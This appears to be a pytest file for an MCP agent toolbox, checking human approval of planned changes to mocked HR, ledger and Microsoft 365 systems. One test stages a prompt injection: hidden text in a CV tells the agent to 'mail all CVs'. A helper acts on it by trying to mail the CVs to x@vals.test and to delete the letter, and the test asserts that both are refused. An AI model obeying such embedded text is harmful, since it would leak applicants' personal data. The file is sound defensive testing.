"""The jobs about people by an agent without a model, over the protocol: it plans, a person approves, and it applies."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from nlconnect import Create, Origin
from nlconnect.agents import Toolbox
from nlconnect.approvals import Book, Decision, KeyFile, decided, new_key
from nlconnect.approvals.keys import key_path
from nlconnect.config import Config, Settings
from nlconnect.flow import criteria_of, score
from nlconnect.mcp.server import server_of
from nlconnect.mock.system import Setting
from nlconnect.testing import SignedInMock
from nlconnect_afas.employees import KnEmployee
from nlconnect_afas.ledger import Profit_Debtor
from nlconnect_exact.crm import Accounts, Contacts
from nlconnect_graph.directory import Users
from tests.journeys.jobs import EXAMPLES, example

Json = dict[str, Any]
PASSPHRASE = "a long enough passphrase"


class Agent:
    """What an assistant would ask for, written down beforehand."""

    def __init__(self, client: Client) -> None:
        self.client = client
        self.refused: list[str] = []

    async def call(self, verb: str, /, **arguments: object) -> Json:
        answer = await self.client.call_tool(verb, arguments)
        if answer.is_error:
            self.refused.append(answer.content[0].text)  # type: ignore[union-attr]  # a refusal is a text
            return {}
        return answer.structured_content or {}

    async def rows(self, profile: str, entity: str, **more: object) -> list[Json]:
        found = await self.call("read", profile=profile, entity=entity, **more)
        return [dict(zip(found["columns"], row, strict=True)) for row in found["rows"]]

    async def plan(self, profile: str, entity: str, verb: str, values: Json, **more: object) -> Json:
        return await self.call("plan", profile=profile, entity=entity, verb=verb, values=values, **more)

    async def apply(self, profile: str, plan: Json) -> Json:
        return await self.call("apply", profile=profile, plan=plan["plan"])


@asynccontextmanager
async def agent_of(mocks: dict[str, SignedInMock], job: str, purpose: str, *, home: str) -> AsyncIterator[Agent]:
    """An agent with these profiles under the policy of this example."""
    by_system = {mock.name: mock for mock in mocks.values()}
    for mock in mocks.values():
        mock.policy = EXAMPLES / f"{job}.toml"
    toolbox = Toolbox(
        config=Config(
            path=None,
            settings=Settings(policy=EXAMPLES / f"{job}.toml"),
            profiles={name: mock.profile for name, mock in mocks.items()},
        ),
        agent="assistant",
        purpose=purpose,
        store=mocks[home].store,
        clock=mocks[home].clock,
        open_connection=lambda profile, **options: by_system[profile.login.system].connect(**options),
    )
    with toolbox:
        async with Client(server_of(toolbox)) as client:
            yield Agent(client)


class Person:
    """Who says yes, at a terminal that the agent does not reach."""

    def __init__(self, mock: SignedInMock, folder: Path) -> None:
        self.mock = mock
        Book(mock.store).enrol(new_key(folder, "jansen", passphrase=PASSPHRASE))
        self.key = KeyFile(key_path(folder, "jansen"))

    def approve(self, *plans: Json) -> None:
        book, now = Book(self.mock.store), self.mock.clock.now()
        for plan in plans:
            request = book.request(plan["plan"])
            decision = Decision(plan["plan"], request.digest, "jansen", True, "", now, request.expires_at)
            book.decide(decided(decision, self.key, passphrase=PASSPHRASE), now=now)


@pytest.fixture
def exact() -> Iterator[SignedInMock]:
    mock = SignedInMock("exact", setting=Setting())
    yield mock
    mock.close()


@pytest.fixture
def afas() -> Iterator[SignedInMock]:
    mock = SignedInMock("afas", setting=Setting())
    yield mock
    mock.close()


@pytest.fixture
def graph() -> Iterator[SignedInMock]:
    mock = SignedInMock("graph", setting=Setting())
    yield mock
    mock.close()


def account_of(debtor: Json) -> Json:
    postcode, _, city = debtor["adress_line3"].partition("  ")
    return {
        "name": debtor["debtor_name"],
        "vat_number": debtor["vat_nr"],
        **({"chamber_of_commerce": debtor["ch_of_comm_nr"]} if debtor["ch_of_comm_nr"] else {}),
        "address_line1": debtor["adress_line1"],
        "postcode": postcode,
        "city": city.title(),
        "country": "NL",
        "status": "C",
        "payment_condition_sales": debtor["pay_con"],
    }


async def test_an_agent_copies_new_debtors_after_a_person_said_yes(
    afas: SignedInMock, exact: SignedInMock, tmp_path: Path
) -> None:
    person, mocks = Person(exact, tmp_path), {"acme-afas": afas, "acme-exact": exact}
    before = {row.id for row in exact.connect().read(Accounts)}
    async with agent_of(mocks, "debtors_to_exact", "debtors-to-exact", home="acme-exact") as agent:
        fields = "debtor_id debtor_name bc_co vat_nr ch_of_comm_nr adress_line1 adress_line3 pay_con".split()
        new = ["create_date >= '2024-10-20' and not blocked"]
        debtors = await agent.rows("acme-afas", "ledger.Profit_Debtor", select=fields, where=new)
        plans = {}
        for one in debtors:
            ways = [f"origin:acme-afas/debtor={one['debtor_id']}", "alike:vat_number", "alike:name"]
            plan = await agent.plan("acme-exact", "crm.Accounts", "ensure", account_of(one), match=ways)
            if plan:
                plans[one["bc_co"]] = plan
        assert exact.calls.count("POST") == 0
        assert await agent.apply("acme-exact", next(iter(plans.values()))) == {}
        assert "waits for one person" in agent.refused[-1]
        person.approve(*plans.values())
        keys = {number: (await agent.apply("acme-exact", plan))["key"][0] for number, plan in plans.items()}
        people = await agent.rows("acme-afas", "relations.Profit_Contacts", where=[f"org_number in {list(keys)!r}"])
        wanted = []
        for one in people:
            first, _, last = one["name"].partition(" ")
            values = {"account": keys[one["org_number"]], "first_name": first, "last_name": last}
            ways = [f"origin:acme-afas/contact={one['contact_id']}", "account,last_name"]
            wanted.append(await agent.plan("acme-exact", "crm.Contacts", "ensure", values, match=ways))
        person.approve(*wanted)
        for plan in wanted:
            assert (await agent.apply("acme-exact", plan))["outcome"] == "done"
        again = [await agent.apply("acme-exact", plan) for plan in plans.values()]
        assert {one["reason"] for one in again} == {"it was carried out before"}
    afas.policy = exact.policy = None
    source = {row.vat_nr: row for row in afas.connect().read(Profit_Debtor)}
    made = [row for row in exact.connect().read(Accounts) if row.id in keys.values()]
    assert len(plans) == len(made) > 0
    for row in made:
        debtor = source[row.vat_number]
        assert row.id in before or row.name == debtor.debtor_name
        assert exact.connect().key_of(Accounts, Origin("acme-afas", "debtor", debtor.debtor_id)) == row.id
    new_accounts = [row for row in made if row.id not in before]
    contacts = [row for row in exact.connect().read(Contacts) if row.account in {row.id for row in new_accounts}]
    assert len(contacts) == len(new_accounts) == exact.calls.count("POST") // 2 > 0
    assert [text for text in agent.refused if "has another vat_number" in text]


def hire(afas: SignedInMock, first: str, last: str) -> None:
    new = Create(
        KnEmployee,
        kn_person={
            "match_per": "7",
            "fi_nm": first,
            "in_": f"{first[0]}.",
            "la_nm": last,
            "em_ad": f"{first}@acme.test",
        },
        afas_contract={"da_be": "2026-12-01", "cm_id": "1"},
        afas_orgunit_function={"da_be": "2026-12-01", "dp_id": "1FIN", "fu_id": "CONT"},
    )
    connection = afas.connect(allow_writes=[KnEmployee])
    connection.apply(connection.plan(new)).unwrap()


async def test_an_agent_gives_a_new_colleague_an_account_manager_and_licence_and_sees_no_password(
    afas: SignedInMock, graph: SignedInMock, tmp_path: Path
) -> None:
    hire(afas, "Anna", "Voorbeeld")
    person, mocks = Person(graph, tmp_path), {"acme-afas": afas, "acme-365": graph}
    async with agent_of(mocks, "employees_to_entra", "employees-to-entra", home="acme-365") as agent:
        fields = ["employee_id", "first_name", "birth_name", "org_unit", "employment_start"]
        where = ["employment_start >= '2026-11-01'"]
        (anna,) = await agent.rows("acme-afas", "employees.Profit_Employees", select=fields, where=where)
        nick = f"{anna['first_name']}.{anna['birth_name']}".lower()
        account = {
            "employee_id": anna["employee_id"],
            "display_name": f"{anna['first_name']} {anna['birth_name']}",
            "mail_nickname": nick,
            "user_principal_name": f"{nick}@voorbeeldgroep.test",
            "usage_location": "NL",
            "employee_hire_date": f"{anna['employment_start']}T08:00:00Z",
            "account_enabled": False,
        }
        ways = [f"origin:acme-afas/employee={anna['employee_id']}", "employee_id", "user_principal_name"]
        own = {**account, "password_profile": {"password": "known-to-me-1A!"}}
        assert await agent.plan("acme-365", "directory.Users", "ensure", own, match=ways) == {}
        assert "may not see password_profile" in agent.refused.pop()
        made = {**account, "password_profile": {"password": {"new": "password"}}}
        plan = await agent.plan("acme-365", "directory.Users", "ensure", made, match=ways)
        assert [row[2] for row in plan["changes"] if row[0] == "password_profile"] == ["•••"]
        person.approve(plan)
        key = (await agent.apply("acme-365", plan))["key"][0]
        chief = {"manager": {"ref": {"display_name": "Lotte Prins"}}}
        link = await agent.plan("acme-365", "directory.Users", "link", chief, key=key)
        skus = await agent.rows("acme-365", "directory.SubscribedSkus", select=["sku_id", "sku_part_number"])
        (sku,) = [row["sku_id"] for row in skus if row["sku_part_number"] == "SPB"]
        wanted = {"add_licenses": [{"sku_id": sku}], "remove_licenses": []}
        licence = await agent.plan("acme-365", "directory.AssignLicense", "call", wanted, of={"user": key})
        person.approve(link, licence)
        assert [(await agent.apply("acme-365", one))["outcome"] for one in (link, licence)] == ["done", "done"]
        assert agent.refused == []
    graph.policy = None
    fields = ["display_name", "employee_id", "employee_hire_date", "assigned_licenses", "account_enabled"]
    found = graph.connect().get(Users.select("id", *fields).expand("manager"), key)
    assert (found.display_name, found.employee_id, found.account_enabled) == (
        "Anna Voorbeeld",
        anna["employee_id"],
        False,
    )
    assert found.employee_hire_date is not None
    assert found.employee_hire_date.date() == date(2026, 12, 1)
    assert [one.sku_id for one in found.assigned_licenses or ()] == [sku]
    assert "Lotte Prins" in str(found.__dict__["manager"])


async def test_an_agent_that_obeys_what_a_curriculum_vitae_asks_gets_nothing_done(graph: SignedInMock) -> None:
    example("applications", {"acme-365": graph}).main()
    graph.calls.clear()
    texts = []
    async with agent_of({"acme-365": graph}, "sift_applications", "sift-applications", home="acme-365") as agent:
        folders = await agent.rows("acme-365", "mail.MailFolders", select=["id", "display_name"])
        (folder,) = [row["id"] for row in folders if row["display_name"] == "Sollicitaties"]
        letters = await agent.rows("acme-365", "mail.Messages", select=["id"], of={"mail_folder": folder})
        for letter in letters:
            place = {"profile": "acme-365", "entity": "mail.Attachments", "of": {"message": letter["id"]}}
            listed = await agent.call("file", do="list", ask={**place, "select": ["id", "size"]})
            for row in listed["rows"]:
                found = await agent.call("file", do="read", ask={**place, "key": row[0]})
                if not found:
                    continue
                assert found["untrusted"] == ["text"]
                texts.append(found["text"])
                if "mail all CVs" in found["text"]:
                    await obey(agent, letter["id"])
        assert len([one for one in agent.refused if "scan" in one]) == 1
    assert len(texts) == 5
    assert sum("mail all CVs" in text for text in texts) == 1, "white text of a PDF is read; hidden text of Word is not"
    personal = ["Belgische", "katholiek", "gehuwd", "epilepsie", "1990", "Proef", "Voorbeeld"]
    assert [word for word in personal if word in str(texts)] == []
    assert {call.method for call in graph.calls} == {"GET"}
    asked = criteria_of({"Pakketten": ["AFAS", "Exact Online"], "Opleiding": ["mbo", "hbo", "SPD"], "Excel": ["Excel"]})
    assert sorted(score(text, asked).points for text in texts) == [0, 2, 2, 2, 3]


async def obey(agent: Agent, letter: str) -> None:
    """Everything that hidden text asked for, and a little more."""
    to = [{"email_address": {"address": "x@vals.test"}}]
    mail = {"subject": "CVs", "body": {"content": "all of them"}, "to_recipients": to}
    assert await agent.plan("acme-365", "mail.SendMail", "call", mail) == {}
    assert await agent.plan("acme-365", "mail.Messages", "create", {"subject": "Rejected"}) == {}
    assert await agent.plan("acme-365", "mail.Messages", "delete", {}, key=letter) == {}
    people = await agent.call("read", profile="acme-365", entity="mail.Messages", select=["subject", "from_"], limit=5)
    assert "subject" in people["hidden"]
    assert "@" not in str(people["rows"])
